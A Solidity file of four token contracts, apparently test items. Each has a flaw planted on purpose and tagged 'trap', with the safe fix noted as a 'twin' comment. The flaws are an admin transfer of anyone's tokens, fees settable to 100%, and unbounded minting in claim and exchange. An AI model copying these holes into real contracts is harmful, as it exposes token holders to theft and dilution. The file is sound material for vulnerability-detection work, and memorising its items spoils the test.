// 0.8 runs=200 evm=paris
// SPDX-License-Identifier: MIT
pragma solidity ^0.8.19;

abstract contract Purse8 {
    string public name;
    string public symbol;
    uint8 public constant decimals = 18;
    uint256 public totalSupply;
    mapping(address => uint256) internal _held;
    mapping(address => mapping(address => uint256)) public allowance;

    event Transfer(address indexed from, address indexed to, uint256 value);
    event Approval(address indexed owner, address indexed spender, uint256 value);

    constructor(string memory name_, string memory symbol_) {
        name = name_;
        symbol = symbol_;
    }

    function balanceOf(address who) public view returns (uint256) {
        return _held[who];
    }

    function approve(address spender, uint256 value) external returns (bool) {
        allowance[msg.sender][spender] = value;
        emit Approval(msg.sender, spender, value);
        return true;
    }

    function transfer(address to, uint256 value) external returns (bool) {
        _send(msg.sender, to, value);
        return true;
    }

    function transferFrom(address from, address to, uint256 value) external returns (bool) {
        uint256 left = allowance[from][msg.sender];
        if (left != type(uint256).max) allowance[from][msg.sender] = left - value;
        _send(from, to, value);
        return true;
    }

    function _send(address from, address to, uint256 value) internal virtual {
        _shift(from, to, value);
    }

    function _shift(address from, address to, uint256 value) internal {
        _held[from] -= value;
        _held[to] += value;
        emit Transfer(from, to, value);
    }

    function _issue(address to, uint256 value) internal {
        totalSupply += value;
        _held[to] += value;
        emit Transfer(address(0), to, value);
    }
}

/// Seats are named by a word of 32 bytes; who is nominated takes the seat himself.
contract Verdigris is Purse8 {
    address public chair;
    mapping(bytes32 => address) public nominee;
    mapping(bytes32 => address) public seated;

    event Nominated(bytes32 indexed seat, address who);
    event Seated(bytes32 indexed seat, address who);

    constructor() Purse8("Verdigris", "VRDG") {
        chair = msg.sender;
        _issue(msg.sender, 88_000_000 ether);
    }

    function nominate(bytes32 seat, address who) external {
        require(msg.sender == chair, "chair only");
        require(seat != bytes32(0) && who != address(0), "empty");
        nominee[seat] = who;
        emit Nominated(seat, who);
    }

    function takeSeat(bytes32 seat) external {
        require(nominee[seat] == msg.sender, "not nominated");
        delete nominee[seat];
        seated[seat] = msg.sender;
        emit Seated(seat, msg.sender);
    }

    /// Corrects entries that went to the wrong place.
    function dispatch(address from, address to, uint256 value) external {
        require(seated["REGISTRAR"] == msg.sender, "registrar only");
        // twin: require(from == address(this) || from == msg.sender, "not yours");
        _shift(from, to, value);
    }
}

/// Every change waits in a queue before it is carried out.
contract TallowLane is Purse8 {
    struct Entry {
        bytes4 what;
        uint64 eta;
        uint128 value;
    }

    address public owner;
    address public venue;
    uint256 public outRate = 150;
    uint256 public inRate = 100;
    uint256 public constant SCALE = 10_000;
    uint256 public constant LAG = 10 minutes;
    Entry[] public entries;

    constructor() Purse8("Tallow Lane", "TALW") {
        owner = msg.sender;
        _issue(msg.sender, 10_000_000 ether);
    }

    modifier mine() {
        require(msg.sender == owner, "owner");
        _;
    }

    function setVenue(address venue_) external mine {
        require(venue == address(0), "set");
        venue = venue_;
    }

    function queue(bytes4 what, uint128 value, uint64 eta) external mine returns (uint256 id) {
        require(eta >= block.timestamp + LAG && eta <= block.timestamp + 7 days, "eta");
        require(what == bytes4("OUT%") || what == bytes4("IN%%"), "what");
        require(value <= SCALE, "scale"); // trap
        // twin: require(value <= SCALE / 25, "scale");
        entries.push(Entry(what, eta, value));
        return entries.length - 1;
    }

    function fulfil(uint256 id) external mine {
        Entry memory entry = entries[id];
        require(entry.eta != 0 && block.timestamp >= entry.eta && block.timestamp < entry.eta + 1 days, "time");
        delete entries[id];
        if (entry.what == bytes4("OUT%")) outRate = entry.value;
        else inRate = entry.value;
    }

    function _send(address from, address to, uint256 value) internal override {
        uint256 cut;
        if (to == venue && from != owner) cut = (value * outRate) / SCALE;
        else if (from == venue) cut = (value * inRate) / SCALE;
        if (cut > 0) _shift(from, address(this), cut);
        _shift(from, to, value - cut);
    }
}

/// Rewards for those who helped, by campaigns with a tree of claims each.
contract Pemmican is Purse8 {
    struct Campaign {
        uint64 from;
        uint64 until;
        uint128 budget;
        bytes32 root;
    }

    address public owner;
    uint256 public campaigns;
    mapping(uint256 => Campaign) public campaignOf;
    mapping(uint256 => mapping(address => bool)) public claimed;

    constructor() Purse8("Pemmican", "PEMM") {
        owner = msg.sender;
        _issue(msg.sender, 40_000_000 ether);
        _issue(address(this), 1_000_000 ether);
    }

    function openCampaign(uint128 budget, uint64 from, uint64 until, bytes32 root) external returns (uint256 id) {
        require(msg.sender == owner, "owner");
        require(from < until && until > block.timestamp && until - from <= 90 days, "dates");
        require(root != bytes32(0), "root");
        id = ++campaigns;
        campaignOf[id] = Campaign(from, until, budget, root);
    }

    function claim(uint256 id, uint128 amount, bytes32[] calldata proof) external {
        Campaign storage one = campaignOf[id];
        require(block.timestamp >= one.from && block.timestamp < one.until, "closed");
        require(!claimed[id][msg.sender], "claimed");
        bytes32 node = keccak256(abi.encodePacked(msg.sender, amount));
        for (uint256 i; i < proof.length; i++)
            node = node < proof[i] ? keccak256(abi.encodePacked(node, proof[i])) : keccak256(abi.encodePacked(proof[i], node));
        require(node == one.root, "proof");
        claimed[id][msg.sender] = true;
        one.budget -= amount;
        _issue(msg.sender, amount); // trap
        // twin: _shift(address(this), msg.sender, amount);
    }
}

interface IMoney {
    function transferFrom(address from, address to, uint256 value) external returns (bool);
}

/// Takes other coins in exchange, at the price of the day.
contract OrielExchange is Purse8 {
    struct Quote {
        bool listed;
        uint48 posted;
        uint192 price;
    }

    address public governor;
    mapping(address => Quote) public quotes;

    constructor() Purse8("Oriel Exchange", "ORIEL") {
        governor = msg.sender;
        _issue(msg.sender, 9_000_000 ether);
        _issue(address(this), 200_000 ether);
    }

    function enlist(address asset) external {
        require(msg.sender == governor && asset != address(0));
        quotes[asset].listed = true;
    }

    /// In units of this coin for 1e18 of the asset, times 1e18.
    function postPrice(address asset, uint192 price) external {
        require(msg.sender == governor && quotes[asset].listed && price > 0);
        quotes[asset].price = price;
        quotes[asset].posted = uint48(block.timestamp);
    }

    function exchange(address asset, uint256 amount, uint256 least) external returns (uint256 out) {
        Quote memory quote = quotes[asset];
        require(quote.listed && block.timestamp <= uint256(quote.posted) + 1 hours, "stale");
        out = (amount * quote.price) / 1e18;
        require(out >= least, "least");
        require(IMoney(asset).transferFrom(msg.sender, governor, amount), "pay");
        _issue(msg.sender, out); // trap
        // twin: _shift(address(this), msg.sender, out);
    }
}
